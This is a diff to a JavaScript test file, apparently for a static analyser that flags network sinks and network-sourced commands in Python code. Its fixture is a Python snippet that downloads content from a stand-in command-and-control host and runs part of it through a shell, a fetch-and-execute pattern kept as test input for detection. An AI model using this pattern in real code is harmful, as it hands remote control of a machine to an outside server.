@@ -180,6 +180,8 @@ test('a method of a local class called on an instance returns what the method re
   const f = await facts(
     "from urllib import request\nimport subprocess\nclass Request:\n    def get(self, url):\n        res = request.build_opener().open(request.Request(url), timeout=5)\n        return res.read()\nreq = Request()\nsubprocess.Popen(req.get('https://c2.invalid/y').decode().split('<!--')[1], shell=True)\n",
   );
-  assert.deepEqual(f.sinks.map((s) => `${s.via} ${s.fn ?? ''}`), ['urllib.request.build_opener.open Request.get']);
+  // (the method is also evaluated with the caller's arguments, as any local function is: one sink, two facts)
+  assert.deepEqual([...new Set(f.sinks.map((s) => `${s.via} ${s.fn ?? ''}`))], ['urllib.request.build_opener.open Request.get']);
+  assert.ok(f.sinks.some((s) => s.dest?.host === 'c2.invalid'));
   assert.equal(f.commands[0]?.fromNetwork, true);
 });
